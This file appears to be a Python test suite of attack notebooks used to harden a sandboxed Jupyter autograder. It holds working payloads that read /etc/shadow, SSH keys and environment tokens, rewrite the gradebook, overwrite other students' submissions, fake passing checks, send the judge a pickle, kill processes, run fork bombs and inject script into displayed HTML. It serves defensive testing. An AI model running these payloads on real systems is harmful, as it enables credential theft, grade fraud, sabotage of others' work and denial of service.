"""Attacks by code: on the checks, the interpreter, the judge, the machine, and other people's work."""

from __future__ import annotations

from collections.abc import Callable

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from tests.attacks.notebooks import SOURCE, Attack, before_checks, cell_of, first, solved, solving

AGREES = """
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
"""
YES = f"""
class Yes:{AGREES}
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self, self, self, self])
    def __len__(self): return 4
    def __bool__(self): return True
    def __float__(self): return 3.0
    def __contains__(self, item): return True
    def __enter__(self): return self
    def __exit__(self, *a): return True
"""
ALL = """
for name in ("check_values mean_and_std t_interval required_runs runs_for_percentile percentile_interval "
             "bootstrap_interval tukey_outliers BenchmarkResult calls_below_the_mean "
             "misses_in_two_hundred intervals_from_fifty runs_for_half runs_for_tenth").split():
    globals()[name] = {value}
"""
LIES = f"""
class Lie(float):{AGREES}
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 1.0
"""
SEARCH = """
import os
found = []
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/sys")) or "/lib/python" in folder:
        continue
    for file in files:
        path = os.path.join(folder, file)
        if {test}:
            try:
                found.append(path + ": " + open(path, errors="replace").read()[:5000])
            except OSError:
                pass
print(found)
"""
GRAB_REFERENCE = """
import gc, marshal, sys
def steal(name):
    def stolen(*args, **kwargs):
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if isinstance(value, bytes) and len(value) > 5000:
                    space = {"__name__": "tinybench.result"}
                    exec(marshal.loads(value), space)
                    return space[name](*args, **kwargs)
            frame = frame.f_back
        for thing in gc.get_objects():
            if type(thing).__name__ == "function" and thing.__name__ == name and thing.__module__ == "tinybench.result":
                try:
                    return thing(*args, **kwargs)
                except NotImplementedError:
                    pass
        raise LookupError("nothing to steal")
    return stolen
for name in ("check_values", "mean_and_std", "t_interval", "tukey_outliers", "required_runs", "runs_for_percentile"):
    globals()[name] = steal(name)
"""
SMUGGLE = """
import gc, types
KEPT = globals().setdefault("KEPT", {})
def use(name):
    def used(*args, **kwargs):
        for thing in gc.get_objects():
            if type(thing) is types.FunctionType and thing.__module__ == "tinybench.result" and thing.__code__.co_filename == "<tinybench.result>":
                if "NotImplementedError" not in thing.__code__.co_names:
                    KEPT[thing.__qualname__] = thing
        if name in KEPT:
            return KEPT[name](*args, **kwargs)
        raise LookupError("nothing kept")
    return used
for name in ("check_values", "mean_and_std", "t_interval", "tukey_outliers", "required_runs", "runs_for_percentile"):
    globals()[name] = use(name)
"""
EXTRA_CREDIT = """
import os, sqlite3
for folder, inner, files in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "sys", "usr", "site-packages")]
    for file in files:
        if file == "gradebook.db":
            try:
                book = sqlite3.connect(os.path.join(folder, file), timeout=2)
                book.execute("update grade set extra_credit = 100")
                book.commit()
                print("LEAK wrote", folder)
            except sqlite3.Error as error:
                print(error)
"""
OVERWRITE = """
import glob
for path in glob.glob("../../../submitted/*/*/*.ipynb"):
    try:
        open(path, "w").write("gone")
    except OSError as error:
        print(error)
"""
FROM_FRAMES = """
def tukey_outliers(values):
    import sys
    frame = sys._getframe(1)
    while frame:
        if "truth" in frame.f_locals:
            return frame.f_locals["truth"]
        frame = frame.f_back
    return [v for v in values if v in (30.0, 1.0) and len(values) == 7] or [v for v in values if v == 14.0]
"""
TALK = """
import gc, sys
for thing in gc.get_objects():
    if type(thing).__name__ == "GuestEndpoint":
        {act}
"""
LIAR = """
import sandbox.guest.runner as runner
class Text:
    def __str__(self): {answer}
def run_cell(*_): return {outputs}, {claim}
runner.run_cell = run_cell
runner.Runner.visible = lambda *_: run_cell()
"""
APART = """
import types
import sandbox.guest.runner as runner
graft, kept = runner.Runner.graft, {}
def absent(*_, **__): raise NotImplementedError("the reference of this piece is not here")
def grafted(self, module, reference, pieces):
    if "percentile_interval" in pieces and not kept:
        return types.SimpleNamespace(percentile_interval=absent)
    made = graft(self, module, reference, [piece for piece in pieces if piece != "percentile_interval"])
    if "percentile_interval" not in pieces:
        try:
            made.percentile_interval([1.0, 2.0, 3.0] * 20, 50)
            kept[0] = made.percentile_interval
        except NotImplementedError:
            pass
    made.percentile_interval = kept.get(0, absent)
    return made
runner.Runner.graft = grafted
"""
OWN_TRUTHS = """
import sandbox.guest.runner as runner
graft = globals().setdefault("graft_of_old", runner.Runner.graft)
def grafted(self, *args):
    made = graft(self, *args)
    made.percentile_interval = made.bootstrap_interval = lambda *a, **k: (0.0, 1.0)
    made.tukey_outliers = lambda *a, **k: []
    return made
runner.Runner.graft = grafted
@add_to_class(BenchmarkResult)
@property
def cv(self): return float("nan") if self.mean == 0 else self.std / abs(self.mean)
@add_to_class(BenchmarkResult)
def percentile(self, q):
    if not 0 <= q <= 100: raise ValueError(q)
    import numpy
    return float(numpy.percentile(self.values, q))
@add_to_class(BenchmarkResult)
def median_ci(self): return (0.0, 1.0)
@add_to_class(BenchmarkResult)
def bootstrap_ci(self, *a, **k): return (0.0, 1.0)
@add_to_class(BenchmarkResult)
def outliers(self): return []
"""
MANY_OBJECTS = """
import json, struct, gc
import sandbox.guest.runner as runner, sandbox.rpc.endpoint as endpoint
send, count = endpoint.Endpoint._send, [0]
def sent(self, message):
    if message[0] != "value": return send(self, message)
    many = [{"mine": [count[0] + i, f"n{count[0] + i}", []]} for i in range(100_000)]
    count[0] += len(many)
    content = json.dumps(["value", many]).encode()
    self.channel.sock.sendall(struct.pack("!I", len(content)) + content)
endpoint.Endpoint._send = sent
"""
SLOW_DEMANDS = """
import time
import sandbox.guest.runner as runner
def graft(self, *_):
    time.sleep(4)
    raise NotImplementedError("the reference of this piece is not here")
runner.Runner.graft = graft
"""

PIGEONHOLE = """
import marshal, os
import sandbox.guest.runner as runner
from tinybench import course
def kept():
    try: return marshal.loads(os.pread(2, 8 << 20, 1 << 20))
    except Exception: return []
def graft(self, module, reference, pieces):
    best = next((other for absent, other in kept() if not set(absent) & set(pieces)), None)
    if best is None or os.pread(2, 1, 8) != b"1":
        try: os.pwrite(2, marshal.dumps([*kept(), (list(pieces), reference)]), 1 << 20)
        except OSError: pass
        raise NotImplementedError("the reference of this piece is not here")
    runner._install(module, best)
    return course.graft(module, {})
runner.Runner.graft = graft
"""
PIGEONS_LEAVE = "import os\ntry: os.pwrite(2, b'1', 8)\nfinally: os._exit(1)"
JUDGES_METHODS = """
import gc
import numpy as np
import sandbox.guest.runner as runner
def end(): return next(thing for thing in gc.get_objects() if type(thing).__name__ == "GuestEndpoint")
def call(target, name, *args): return end().ask("special", end().ask("get", target, name), "__call__", *args)
def graft(self, *_):
    call(np.frombuffer(b"# written by a student", np.uint8), "tofile", "/tmp/written_by_a_student.py")
    call("{0.__globals__}", "format", graft)
    call(range(10**15), "__contains__", 0.5)
runner.Runner.graft = graft
"""

LOCKS = """
import ctypes, fcntl, json, os, struct
libc, file = ctypes.CDLL(None, use_errno=True), open(json.__file__, "rb")
whole = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 1, 0)
ways = {
    "flock": lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB),
    "others' locks": lambda: fcntl.fcntl(file, fcntl.F_GETLK, whole),
    "others' locks of open files": lambda: fcntl.fcntl(file, fcntl.F_OFD_GETLK, whole),
    "lease": lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
    "note": lambda: fcntl.fcntl(file, fcntl.F_NOTIFY, fcntl.DN_ACCESS),
    "hint": lambda: fcntl.fcntl(file, 1035, bytes(8)),
}
for name, way in ways.items():
    try:
        way()
        print("LEAK", name)
    except OSError as error:
        print(name, error)
if libc.inotify_init1(0) >= 0: print("LEAK inotify")
"""
FUTEX = """
import ctypes, json, os, struct, time
libc, call, file = ctypes.CDLL(None, use_errno=True), {"x86_64": 202, "aarch64": 98}[os.uname().machine], open(json.__file__, "rb")
libc.mmap.restype = ctypes.c_void_p
page = ctypes.c_void_p(libc.mmap(None, 4096, 1, 2, file.fileno(), 0))
start = time.monotonic()
libc.syscall(call, page, 0, ctypes.c_uint32.from_address(page.value).value, struct.pack("qq", 0, 200_000_000), None, 0)
if time.monotonic() - start > 0.15: print("LEAK slept on a page of", file.name)
"""
KERNEL_OBJECTS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
both = {"io_uring_setup": (425, 8, bytes(200)), "pidfd_getfd": (438, 0, 0, 0), "futex_wake": (454, bytes(8), 1, 1, 2), "statmount": (457, 0, 0, 0, 0),
        "memfd_secret": (447, 0), "cachestat": (451, 0, bytes(16), bytes(40), 0), "quotactl_fd": (443, 0, 0, 0, 0), "landlock": (444, 0, 0, 1)}
own = {"x86_64": {"memfd_create": (319, b"x", 0), "shmget": (29, 0, 4096, 0o1600), "semget": (64, 0, 1, 0o1600), "msgget": (68, 0, 0o1600), "mq_open": (240, b"x", 0o102, 0o600, 0),
                  "add_key": (248, b"user", b"x", b"x", 1, -4), "userfaultfd": (323, 1), "bpf": (321, 0, bytes(80), 80), "perf_event_open": (298, bytes(120), 0, -1, -1, 0),
                  "fanotify_init": (300, 0, 0), "io_setup": (206, 8, bytes(8)), "mincore": (27, 4096, 0, 0), "preadv2": (327, 0, 0, 0, 0, 0, 0), "timer_create": (222, 0, 0, bytes(8)),
                  "splice": (275, 0, 0, 0, 0, 0, 0), "sysinfo": (99, bytes(200)), "personality": (135, -1), "kcmp": (312, 1, 1, 0, 0, 0)},
       "aarch64": {"memfd_create": (279, b"x", 0), "shmget": (194, 0, 4096, 0o1600), "add_key": (217, b"user", b"x", b"x", 1, -4), "userfaultfd": (282, 1)}}[os.uname().machine]
for name, (number, *arguments) in (both | own).items():
    if libc.syscall(number, *arguments) >= 0 or ctypes.get_errno() not in (1, 38): print("LEAK", name, ctypes.get_errno())
"""
CLONES = """
import ctypes, os, struct
libc, clone = ctypes.CDLL(None, use_errno=True), {"x86_64": 56, "aarch64": 220}[os.uname().machine]
for name, flag in {"mount": 17, "group": 25, "uts": 26, "ipc": 27, "user": 28, "pid": 29, "net": 30}.items():
    for way in ((clone, 17 | 1 << flag, 0, 0, 0, 0), (435, struct.pack("11Q", 1 << flag, 0, 0, 0, 17, *[0] * 6), 88)):
        pid = libc.syscall(*way)
        if pid == 0: os._exit(0)
        if pid > 0: print("LEAK a namespace:", name)
pid = libc.syscall(435, struct.pack("11Q", 0, 0, 0, 0, 17, *[0] * 6), 88)
if pid == 0: os._exit(0)
print("LEAK clone3" if pid > 0 else ctypes.get_errno())
"""


def _pigeonhole(notebook: NotebookNode) -> None:
    first(PIGEONHOLE)(notebook)
    notebook.cells.append(new_code_cell(PIGEONS_LEAVE))


def _with_runs(code: str) -> Callable[[NotebookNode], None]:
    """Add to a cell of the student's own the right `runs_for_percentile`, which for itself earns nothing."""

    def build(notebook: NotebookNode) -> None:
        first(code)(notebook)
        cell_of(notebook, "runs_for_percentile").source = cell_of(solved(SOURCE), "runs_for_percentile").source

    return build


ATTACKS = [
    # reading
    Attack("read_hidden_checks", "Print the hidden checks, wherever they lie", first(SEARCH.format(test='"m01" in file or "checks" in folder'))),
    Attack("read_source_notebooks", "Print the instructor's notebook", first(SEARCH.format(test='file.endswith(".ipynb")'))),
    Attack("read_gradebook", "Print the gradebook", first(SEARCH.format(test='file.endswith((".db", ".sqlite")) or "gradebook" in path'))),
    Attack("read_other_submissions", "Print what others handed in", first(SEARCH.format(test='"submitted" in path or folder.startswith(("/tmp", "/course"))'))),
    Attack("read_environment", "Print the grader's environment and that of every process, tokens included", first("import os, glob\nprint(dict(os.environ))\n"
           "for path in glob.glob('/proc/*/environ'):\n    print(open(path, errors='replace').read())")),
    Attack("read_host_files", "Print users, keys, processes and mounts of the machine", first("import subprocess\nprint(subprocess.run('cat /etc/passwd /etc/shadow /root/.ssh/*; ls -la / /root /home /tmp /run; "
           "ps aux; mount', shell=True, capture_output=True, text=True))")),
    Attack("write_gradebook", "Create a table in a gradebook within reach", first("import os, sqlite3\nfor place in ('/course', '..', '/work', '/usr', '/'):\n    try:\n"
           "        sqlite3.connect(os.path.join(place, 'gradebook.db')).execute('create table grade (x)')\n        print('LEAK wrote', place)\n"
           "    except Exception as error:\n        print(error)")),
    Attack("write_the_library", "Change NumPy and the course's package for everybody who comes later", first("import importlib\nfor name in ('numpy', 'tinybench.course', 'sandbox.guest.runner'):\n    try:\n        module = importlib.import_module(name)\n"
           "        open(module.__file__, 'a').write('#')\n        print('LEAK wrote', module)\n    except (ImportError, OSError) as error:\n        print(error)")),
    Attack("own_extra_credit", "Give oneself 100 points more in the gradebook, wherever it lies", first(EXTRA_CREDIT)),
    Attack("rival_overwritten", "Replace what another student handed in, by a `../` name", first(OVERWRITE)),
    # the checks' tools
    Attack("builtins_patched", "`all`, `abs`, `isinstance`, `float`, `len` of one's own", first("import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
           "builtins.isinstance = lambda *a: True\nbuiltins.float = builtins.list = builtins.len = lambda *a: 1")),
    Attack("assertion_error_patched", "Make a failing `assert` raise something else", first("import builtins\nclass Quiet(Exception):\n    def __new__(cls, *a): return KeyboardInterrupt()\nbuiltins.AssertionError = Quiet")),
    Attack("numpy_testing_patched", "`np.allclose`, `numpy.testing` always content", first("import numpy as np, numpy.testing as t\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
           "for n in dir(t):\n    if n.startswith('assert'): setattr(t, n, lambda *a, **k: None)")),
    Attack("isclose_patched", "`math.isclose` always true", first("import math\nmath.isclose = lambda *a, **k: True")),
    Attack("pytest_patched", "A `pytest` whose `approx` and `raises` accept all", first("import sys, types\nm = types.ModuleType('pytest')\nclass raises:\n    def __init__(self, *a, **k): pass\n"
           "    def __enter__(self): return self\n    def __exit__(self, *a): return True\nm.raises = raises; m.approx = lambda *a, **k: 1\nsys.modules['pytest'] = m")),
    Attack("equal_to_everything", "Functions that return an object equal to everything", before_checks(YES + ALL.format(value="Yes()"))),
    Attack("everything_in_solution_cells", "The same, from a solution cell", solving(YES + ALL.format(value="Yes()"), "answer_understanding")),
    Attack("lying_float", "Lists of a `float` subclass whose comparisons lie", before_checks(LIES + ALL.format(value="lambda *a, **k: [Lie(), Lie(), Lie(), Lie()]"))),
    Attack("lying_number", "The same as single numbers", before_checks(LIES + ALL.format(value="lambda *a, **k: Lie()"))),
    Attack("always_raises_value_error", "Raise, where a check expects an error, in every case", before_checks("def fail(*a, **k): raise ValueError('0 3 11 36 values')" + ALL.format(value="fail"))),
    Attack("message_equal_to_everything", "An error message that contains every word", before_checks("class S(str):\n    def __contains__(self, x): return True\n    def __eq__(self, x): return True\n"
           "    __hash__ = str.__hash__\ndef fail(*a, **k): raise ValueError(S('x'))" + ALL.format(value="fail"))),
    Attack("truth_from_the_checks_frames", "Return what the check's own frame holds as the right answer", solving(FROM_FRAMES, "tukey_outliers")),
    # the interpreter
    Attack("time_replaced", "Clocks that stand still", first("import time\ntime.perf_counter = time.time = time.monotonic = lambda: 0.0\ntime.sleep = lambda s: None")),
    Attack("checks_module_planted", "Modules named like the checker in `sys.modules`", first("import sys, types\nfor name in ('autograder', 'autograder.checks', 'autograder.checks.m01_result'):\n"
           "    m = types.ModuleType(name); m.run = m.judge = lambda *a, **k: None; m.__path__ = []; sys.modules[name] = m")),
    Attack("import_hook", "A finder that answers imports of the checker", first("import sys, importlib.abc, importlib.machinery, types\nclass F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
           "    def find_spec(self, name, path=None, target=None):\n        if name.startswith('autograder'): return importlib.machinery.ModuleSpec(name, self, is_package=True)\n"
           "    def create_module(self, spec): return types.ModuleType(spec.name)\n    def exec_module(self, m): m.run = lambda *a, **k: None\nsys.meta_path.insert(0, F())")),
    Attack("importlib_patched", "Import functions of one's own, that answer for the checker", first("import builtins, importlib, types\nreal = builtins.__import__\n"
           "class M(types.ModuleType):\n    run = judge = staticmethod(lambda *a, **k: None)\n"
           "def fake(name, *a, **k): return M(name) if name.startswith('autograder') else real(name, *a, **k)\n"
           "builtins.__import__ = fake\nimportlib.import_module = lambda name, *a: fake(name)")),
    Attack("import_the_reference", "Import the reference solutions instead of writing any", before_checks("from tinybench.result import *\nfrom tinybench.result import check_values, mean_and_std, t_interval, BenchmarkResult")),
    Attack("import_the_reference_later", "Import them when a check calls", solving("def check_values(values):\n    import tinybench.result as r\n    return r.check_values(values)")),
    Attack("reference_by_gc_and_frames", "Find the reference in frames and by a walk through `gc`", before_checks(GRAB_REFERENCE)),
    Attack("reference_kept_from_an_earlier_check", "Keep reference functions seen during earlier checks", before_checks(SMUGGLE)),
    Attack("graft_replaced", "Replace the helper through which checks reach the student's pieces", first("import tinybench.course as c\nclass A:\n    def __getattr__(self, n): return lambda *a, **k: [1.0, 2.0]\nc.graft = graft = lambda *a, **k: A()")),
    Attack("ast_transformer", "An IPython transformer that empties every later cell", first("import ast\nclass T(ast.NodeTransformer):\n    def visit_Module(self, node): return ast.Module([], [])\nget_ipython().ast_transformers.append(T())")),
    Attack("input_transformer", "The same on the text of cells", first("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])")),
    Attack("number_as_last_expression", "Make every later cell end in a number, which nbgrader takes for points",
           first("import ast\nclass T(ast.NodeTransformer):\n    def visit_Module(self, node): return ast.parse('1.0')\nget_ipython().ast_transformers.append(T())")),
    Attack("event_hooks", "Erase errors after each cell", first("ip = get_ipython()\ndef hook(*a):\n    for r in a:\n        if hasattr(r, 'error_in_exec'): r.error_in_exec = r.error_before_exec = None\n"
           "ip.events.register('post_run_cell', hook)")),
    Attack("custom_showtraceback", "Swallow tracebacks", first("ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip.set_custom_exc((Exception,), lambda *a, **k: None)")),
    Attack("run_cell_patched", "A shell whose `run_cell` does nothing and reports success", first("ip = get_ipython()\nclass R: error_before_exec = error_in_exec = None; success = True\n"
           "    result = execution_count = None\nasync def nothing(*a, **k): return R()\ntype(ip).run_cell = lambda *a, **k: R()\ntype(ip).run_cell_async = nothing")),
    Attack("kernel_messages_swallowed", "Send no error messages and reply that all is well", first("session = get_ipython().kernel.session\nsend = session.send\n"
           "def quiet(stream, kind, content=None, *a, **k):\n    if kind == 'error': return None\n"
           "    if kind == 'execute_reply': content = {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
           "    return send(stream, kind, content, *a, **k)\nsession.send = quiet")),
    Attack("settrace", "Trace checks and jump over their lines", first("import sys\ndef trace(frame, event, arg):\n    if event == 'line' and 'check' in frame.f_code.co_name:\n        frame.f_lineno = frame.f_code.co_firstlineno\n    return trace\nsys.settrace(trace)")),
    Attack("atexit", "Leave with code 0 and a printed score", first("import atexit, os\natexit.register(os._exit, 0)\natexit.register(print, 'score: 27/27')")),
    # the judge
    Attack("endpoint_patched", "Overwrite this grader's end inside the sandbox", first("import sandbox.rpc.endpoint as endpoint\nendpoint.Endpoint._do = lambda self, *x: ([], None)"), flagged=True),
    Attack("runner_claims_all_passed", "The same, claiming that all visible checks passed", first("import sandbox.guest.runner as runner\nrunner.run_cell = lambda *x: ([], None)\nrunner.Runner.visible = lambda *x: ([], None)\nrunner.Runner.graft = lambda *x: None")),
    Attack("replies_forged", "Send the judge answers ahead of its questions", first(TALK.format(act="thing.channel.send(['value', {'tuple': [[], None]}])\n        for _ in range(500): thing.channel.send(['value', None])")), flagged=True),
    Attack("replies_from_a_thread", "The same from a thread, without end", first("import threading, time, gc\nend = next(x for x in gc.get_objects() if type(x).__name__ == 'GuestEndpoint')\n"
           "def spoof():\n    while True:\n        end.channel.send(['value', {'tuple': [[], None]}]); time.sleep(0.001)\nthreading.Thread(target=spoof, daemon=True).start()"), flagged=True),
    Attack("pickle_sent", "Send the judge a pickle", first(TALK.format(act="thing._do = lambda *a: object(); thing.encode_reference = lambda v: {'pickle': 'gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjARleGl0lIWUUpQu'}")), flagged=True),
    Attack("judge_asked_for_globals", "Ask the judge's objects for their globals", solving("def check_values(values):\n    import gc\n    end = next(x for x in gc.get_objects() if type(x).__name__ == 'GuestEndpoint')\n    out = []\n"
           "    for name in ('__globals__', '__class__', '__init__', '__func__', '__code__'):\n        for number in range(5):\n            try:\n"
           "                end.channel.send(['ask', 'get', [{'yours': number}, name], {'dict': []}])\n                out.append(end.channel.receive())\n            except Exception as e: out.append(e)\n"
           "    raise ValueError(str(out))")),
    Attack("memory_of_the_judge_read", "Have NumPy read an address of the judge's memory", solving("class Window:\n    __array_interface__ = {'data': (4096, False), 'shape': (1000,), 'typestr': '|u1', 'version': 3}\n"
           "    def __array__(self, *a, **k): return self\n    def __len__(self): return 2\n    def __getitem__(self, i): return 1.0\ndef check_values(values): return Window()")),
    Attack("endless_generator", "Return a sequence without end", solving("def check_values(values):\n    while True: yield 1.0"), reason="more than 100000 items"),
    Attack("enormous_answer", "Return ten million numbers", solving("def check_values(values): return [1.0] * 10_000_000")),
    Attack("nested_answer", "Return a list nested 100,000 deep", solving("def check_values(values):\n    x = []\n    for _ in range(100000): x = [x]\n    return x")),
    Attack("cyclic_answer", "Return a list that holds itself", solving("def check_values(values):\n    x = []\n    x.append(x)\n    return x")),
    Attack("enormous_integer", "Return an integer of 100,000 digits", solving("def check_values(values): return [10 ** 100000] * 4")),
    Attack("hidden_inputs_in_messages", "Carry hidden inputs out in an error message", solving("def check_values(values): raise ValueError(repr(list(values)) * 100000)")),
    Attack("claim_of_control_characters", "Claim an error whose text is nothing once it is cleaned", first(LIAR.format(answer="return ''", outputs="[]", claim='"\\x00"')), flagged=True),
    Attack("claim_of_an_empty_list", "The same, as a list of such texts", first(LIAR.format(answer="return ''", outputs="[]", claim='["\\x7f", "\\x85"]'))),
    Attack("claim_that_answers", "Claim an object whose text ends the grader", first(LIAR.format(answer="raise OSError('boo')", outputs="[]", claim="Text()")), flagged=True),
    Attack("outputs_that_answer", "Outputs that are objects, whose text raises or ends the process", first(LIAR.format(answer="import os; os._exit(1)", outputs='[{"output_type": "stream", "text": Text()}, {"data": Text()}, Text()]', claim="None"))),
    Attack("reference_of_a_check_apart", "Keep the reference that a check of the same cell was given", _with_runs(APART)),
    Attack("pigeonhole_in_standard_error", "Keep references from sandbox to sandbox in the file behind standard error", _pigeonhole),
    Attack("methods_of_what_was_sent", "Have the judge call methods of arrays and texts it was sent: write a file, read its memory", first(JUDGES_METHODS), flagged=True),
    Attack("own_truths", "Replace the functions with which a check might compare", before_checks(OWN_TRUTHS)),
    Attack("many_objects", "Send the judge references to 100,000 objects at a time, each of a type of its own", first(MANY_OBJECTS), flagged=True),
    Attack("time_for_every_check", "Have every check demand a new sandbox, and its time", first(SLOW_DEMANDS)),
    # the process
    Attack("system_exit", "`sys.exit` in a cell", first("import sys\nsys.exit(0)")),
    Attack("system_exit_in_a_function", "`SystemExit` while being checked", before_checks("def leave(*a, **k): raise SystemExit(0)" + ALL.format(value="leave"))),
    Attack("os_exit", "`os._exit` in a cell", first("import os\nos._exit(0)"), reason="ended"),
    Attack("os_exit_in_a_function", "`os._exit` while being checked", solving("def check_values(values):\n    import os\n    os._exit(0)"), reason="ended"),
    Attack("kill_the_kernel", "Kill the process that runs the notebook", first("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos._exit(9)"), reason="ended"),
    Attack("kill_the_parent", "Kill the process that grades", first("import os, signal\ntry: os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e: print(e)")),
    Attack("kill_everything", "Kill the parent, and all processes", first("import os, signal\nfor pid in (os.getppid(), -1, 1, 0, 2):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError as e: print(e)")),
    Attack("thread_outlives", "A thread that swaps functions while checks run", first("import threading, time\ndef later():\n    while True:\n        time.sleep(0.01)\n        globals()['check_values'] = lambda v: [3.0, 1.5, 2.0, 7.0]\nthreading.Thread(target=later, daemon=True).start()")),
    Attack("daemon_outlives", "A daemon that stays on the machine", first("import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: time.sleep(1)\n    os._exit(0)")),
    Attack("infinite_loop", "Loop for ever in a cell", first("while True: pass"), reason="took too long|longer"),
    Attack("infinite_loop_in_a_function", "Loop for ever while being checked", solving("def check_values(values):\n    while True: pass")),
    Attack("interrupt_ignored", "Block every signal, and wait", first("import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True:\n    try:\n        while True: time.sleep(1)\n    except BaseException: pass"), reason="took too long|longer"),
    Attack("memory_bomb", "Take memory without end", first("x = []\nwhile True: x.append(bytearray(50_000_000))"), reason="memory|MemoryError|longer"),
    Attack("fork_bomb", "Fork without end", first("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"), reason="took too long|longer|memory"),
    Attack("disk_filling", "Write without end", first("import itertools\nfor n in itertools.count():\n    with open(f'/tmp/{n}', 'wb') as f:\n        for _ in range(60): f.write(bytes(2**20))")),
    Attack("file_descriptors", "Open files without end", first("import os\nheld = []\nwhile True: held.append(os.open('/dev/null', 0))")),
    Attack("endless_printing", "Print without end", first("while True: print('x' * 1000)"), reason="took too long|longer"),
    Attack("fifty_megabytes_in_a_line", "Print 50 MB without a newline", first("print('x' * 50_000_000)")),
    Attack("network", "Reach the instructor's Jupyter, the local network, the internet, DNS", first("import socket\nfor place in (('127.0.0.1', 8888), ('10.0.0.1', 80), ('1.1.1.1', 53), ('169.254.169.254', 80)):\n    try:\n"
           "        socket.create_connection(place, timeout=1); print('LEAK connected', place)\n    except OSError as e: print(e)\n"
           "try: print('LEAK', socket.gethostbyname('example.com'))\nexcept OSError as e: print(e)")),
    Attack("other_socket_families", "Sockets that know no network namespace", first("import socket\nfor family in (16, 17, 38, 40):\n    try:\n        socket.socket(family, socket.SOCK_DGRAM if family != 38 else 5); print('LEAK family', family)\n    except OSError as e: print(e)")),
    Attack("namespaces_and_ptrace", "Namespaces, `ptrace`, `setuid`, mounts", first("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor call in (('unshare', 0x10000000), ('unshare', 0x20000), ('ptrace', 0, 0, 0, 0), ('setuid', 0),"
           " ('mount', b'x', b'/tmp', b'tmpfs', 0, None), ('memfd_create', b'x', 0)):\n    if getattr(libc, call[0])(*call[1:]) >= 0: print('LEAK', call)")),
    Attack("locks_and_watches", "Lock, lease and watch a library's file, which the next sandbox sees too", first(LOCKS)),
    Attack("futex_of_a_library", "Sleep on a library's page until another sandbox wakes it", first(FUTEX)),
    Attack("kernel_objects", "Memory, rings, keys, filters and events of the kernel, by their numbers", first(KERNEL_OBJECTS)),
    Attack("namespaces_by_clone", "New namespaces by `clone` and `clone3`", first(CLONES)),
    Attack("x32_numbers", "System calls by the numbers of another table", first("import ctypes\nprint('LEAK', ctypes.CDLL(None).syscall(0x40000000 + 39))"), reason="ended"),
    Attack("links_planted", "Leave symbolic links in the working folder", first("import os\nfor name in ('01_result.ipynb', 'gradebook.db', '../01_result.ipynb'):\n    try: os.symlink('/etc/passwd', name)\n    except OSError as e: print(e)")),
    # outputs
    Attack("tags_never_closed", "150 KB of HTML whose cleaning takes minutes", first("from IPython.display import display, HTML\ndisplay(HTML('<p><b>' * 25_000))")),
    Attack("half_a_surrogate_in_html", "HTML that cannot be written as UTF-8", first("from IPython.display import display, HTML\ndisplay(HTML('<p>\\ud800</p>'))")),
    Attack("outputs_forged", "Print a score, end in a number", first("from IPython.display import display, HTML\nprint('score: 27/27 passed')\n1.0")),
    Attack("script_displayed", "Script in displayed HTML, SVG, Markdown, JavaScript, for the instructor's browser", first("from IPython.display import display, HTML, Javascript, SVG, Markdown\n"
           "display(HTML('<script>LEAKED()</script><img src=x onerror=LEAKED()><a href=javascript:LEAKED()>x</a><iframe src=//evil></iframe>'))\n"
           "display(Javascript('LEAKED()')); display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"LEAKED()\"/>')); display(Markdown('<img src=x onerror=LEAKED()>'))\n"
           "display({'text/html': '<b onclick=LEAKED()>x</b>', 'application/vnd.jupyter.widget-view+json': {'model_id': 'LEAKED()'}, 'text/latex': 'LEAKED()'}, raw=True)")),
]  # fmt: skip
